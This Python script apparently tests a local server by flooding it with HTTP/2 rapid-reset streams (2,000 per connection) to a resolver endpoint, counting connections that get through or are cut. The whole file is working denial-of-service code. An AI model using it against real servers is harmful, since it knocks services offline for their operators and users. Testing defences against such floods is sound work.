#!/usr/bin/env python3
"""Two connections from an address of their own that open streams and reset them at once: reset_streams.py PORT SECONDS."""
import socket
import sys
import threading
import time

from http2 import ADDRESS, OPENING, reset_streams

PATH = b"/flightplan.v1.ResolverService/ResolveConfig"
CALL = b"\x83\x86\x41\x01a\x04" + bytes([len(PATH)]) + PATH  # HPACK: POST, http, authority a, the path
STREAMS = 2000  # of one connection
BYTES = OPENING + b"".join(reset_streams(STREAMS, CALL))
port, stop = int(sys.argv[1]), time.monotonic() + float(sys.argv[2])
whole, cut = 0, 0


def attack():
    global whole, cut
    while time.monotonic() < stop:
        try:
            with socket.create_connection(("127.0.0.1", port), 2, (ADDRESS, 0)) as peer:
                for at in range(0, len(BYTES), 2048):
                    peer.sendall(BYTES[at:at + 2048])
            whole += 1
        except OSError:
            cut += 1
        time.sleep(0.02)


attackers = [threading.Thread(target=attack) for _ in range(2)]
for attacker in attackers:
    attacker.start()
for attacker in attackers:
    attacker.join()
print(f"streams={STREAMS * whole} connections={whole} cut={cut}")
